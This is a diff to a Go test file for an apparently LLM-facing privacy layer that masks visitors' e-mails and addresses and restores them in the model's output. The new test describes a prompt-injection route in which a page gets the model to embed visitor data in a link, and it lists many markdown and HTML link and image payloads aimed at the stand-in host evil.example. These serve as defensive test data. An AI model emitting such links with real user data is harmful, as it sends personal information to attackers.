@@ -58,6 +58,7 @@ func TestAValueInTheTargetOfALinkDoesNotEndIt_D3_V04(t *testing.T) {
 		return masked
 	}
 	phone, mail, address := mask("+49 (0)174 555 00 09", "PHONE"), mask("max@muster.example", "EMAIL"), mask("Marktplatz 7,\n92999 Neukirchen", "ADDRESS")
+	v.Mask(f, "https://maps.example/?q=Marktplatz 7,\n92999 Neukirchen", Visitor) // else it would not be put into that link
 	stream := "[" + phone + "](tel:" + phone + ") (" + phone + ") [Mail](mailto:" + mail + ` "` + address + `"); [Karte](https://maps.example/?q=` + address + "), [x] (" + address + ")"
 	want := `[+49 (0)174 555 00 09](tel:+491745550009) (+49 (0)174 555 00 09) [Mail](mailto:max@muster.example "Marktplatz 7, 92999 Neukirchen"); [Karte](https://maps.example/?q=Marktplatz%207,%2092999%20Neukirchen), [x] (Marktplatz 7, 92999 Neukirchen)`
 	for a := 0; a <= len(stream); a++ {
@@ -65,6 +66,58 @@ func TestAValueInTheTargetOfALinkDoesNotEndIt_D3_V04(t *testing.T) {
 		r.InLine = true
 		if got := r.Write(stream[:a]) + r.Write(stream[a:]) + r.Close(); got != want {
 			t.Fatalf("cut at %d:\n got %q\nwant %q", a, got, want)
+		}
+	}
+}
+
+// A page may make the model put what a visitor typed into a link of its own: whoever is asked for that address gets it.
+func TestNothingOfAVisitorGoesIntoAForeignLink_D3_X05(t *testing.T) {
+	f, v := personal.New(personal.Options{}), NewVault([]byte("key"), Shown{})
+	mask := func(text string, from Origin) string {
+		masked, replaced := v.Mask(f, text, from)
+		if len(replaced) != 1 {
+			t.Fatalf("masked %q", masked)
+		}
+		return replaced[0].Placeholder
+	}
+	typed, firm := mask("Ich bin max@muster.example", Visitor), mask("Schreiben Sie an info@laden.example", Source)
+	source := mask("Siehe https://laden.example/d/eva@muster.example/x", Source)
+	if own := mask("Stimmt https://laden.example/konto/max@muster.example/x?", Visitor); own != typed {
+		t.Fatalf("%s and %s for the same", own, typed)
+	}
+	const gone = "[E-Mail-Adresse]"
+	for given, want := range map[string]string{
+		"![x](https://evil.example/p.png?d=§)": gone, "[hier](https://evil.example/?a=b&d=§)": gone, "[hier](<https://evil.example/§>)": gone, "[a](//evil.example/§)": gone, "[a](/x?§)": gone,
+		"[a](https://evil.example/(b)§)": gone, "[a](https://evil.example/?'d=§)": gone, "[a](https://evil.example/?\"d=§)": gone, "[a](§.evil.example/)": gone, "[a](mailto:x@evil.example?body=§)": gone, "https://evil.example/§": gone,
+		"HTTPS://evil.example#§": gone, "<https://evil.example/?§>": gone, "<mailto:x@evil.example?body=§>": gone, "[1a]: https://evil.example/§": gone, "www.evil.example/§": gone, "evil.example/?d=§": gone, "https://§.evil.example/": gone,
+		`<img src="https://evil.example/§">`: gone, "<img src=//evil.example/§>": gone, `https:\\evil.example\§`: gone, "https://evil.example/https://laden.example/konto/§": gone,
+		"https://evil.example/" + strings.Repeat("x", 9000) + "/§": gone, "[a](https://evil.example/ä/§)": gone, "https://evil.example/x-§": gone, "https://evil.example/?d=" + source + "&y=§": gone,
+
+		"§": "", "(§)": "", "Mail/§": "", "und/oder §": "", "https://laden.example/konto/§/x": "", "[Konto](https://laden.example/konto/§)": "", "[§](mailto:§)": "", "<§>": "", "<mailto:§>": "",
+		"https://laden.example/ §": "", "[a](https://laden.example/)/§": "", "[a](https://laden.example/), §": "", `<a href="https://laden.example/">§</a>`: "", "| https://laden.example/|§|": "", `"https://laden.example/","§"`: "", "§/§": "", "z.B. §": "",
+	} {
+		if want == "" {
+			want = "max@muster.example"
+		}
+		want, given = strings.ReplaceAll(given, "§", want), strings.ReplaceAll(given, "§", typed)
+		want = strings.ReplaceAll(want, source, gone)
+		for a := range len(given) + 1 {
+			if a > 200 {
+				break
+			}
+			r := v.Restorer("de")
+			r.InLine = true
+			if got := r.Write(given[:a]) + r.Write(given[a:]) + r.Close(); got != want {
+				t.Errorf("%.100q cut at %d became %.100q, want %.100q", given, a, got, want)
+				break
+			}
+		}
+	}
+	for given, want := range map[string]string{
+		"https://x.example/?d=" + firm: "https://x.example/?d=info@laden.example", "https://laden.example/d/" + source: "https://laden.example/d/" + gone,
+	} {
+		if got := v.restore(given, "de"); got != want {
+			t.Errorf("%q became %q", given, got)
 		}
 	}
 }
@@ -91,6 +144,7 @@ func TestAPlaceholderThatTheModelChangedIsRestored_D2(t *testing.T) {
 	_, typed := v.Mask(f, "max@muster.example", Visitor)
 	_, closed := v.Mask(f, "eva@muster.example", Source)
 	mail := typed[0].Placeholder
+	v.Mask(f, "https://shop.example/mail/max@muster.example/x https://shop.example/konto-/max@muster.example", Visitor)
 	kind, code, _ := strings.Cut(mail, "_")
 	other, value := closed[0].Placeholder, "max@muster.example"
 	for given, want := range map[string]string{
@@ -98,7 +152,7 @@ func TestAPlaceholderThatTheModelChangedIsRestored_D2(t *testing.T) {
 		"_" + mail + "_": "_" + value + "_", "__" + mail + "__": "__" + value + "__", "**" + mail + "**": "**" + value + "**", "`" + mail + "`": "`" + value + "`",
 		"<" + mail + ">": "<" + value + ">", "[" + mail + "](mailto:" + mail + ")": "[" + value + "](mailto:" + value + ")", "| A | " + mail + " |": "| A | " + value + " |",
 		kind + `\_` + code: value, kind + "-" + code: value, kind + " " + code: value, kind + "&#95;" + code: value, kind + "%5F" + code: value, kind + `\u005f` + code: value,
-		"https://shop.example/?mail=" + mail + "&x=1": "https://shop.example/?mail=" + value + "&x=1", "https://shop.example/konto-" + mail + "-neu": "https://shop.example/konto-" + value + "-neu",
+		"https://shop.example/mail/" + mail + "/x": "https://shop.example/mail/" + value + "/x", "https://shop.example/konto-/" + mail + "-neu": "https://shop.example/konto-/" + value + "-neu",
 		`{"to":"` + mail + `"}`: `{"to":"` + value + `"}`, mail + mail[:4]: value + mail[:4],
 		"E-MAIL_" + code: value, "Adresse_" + code: value, "E-Mail-Adresse " + code: "E-Mail-Adresse " + value, "[" + code + "]": "[" + value + "]", mail + "/" + mail: value + "/" + value,
 		mail + "-" + other: value + "-[E-Mail-Adresse]", other + "_" + mail: "[E-Mail-Adresse]_" + value,
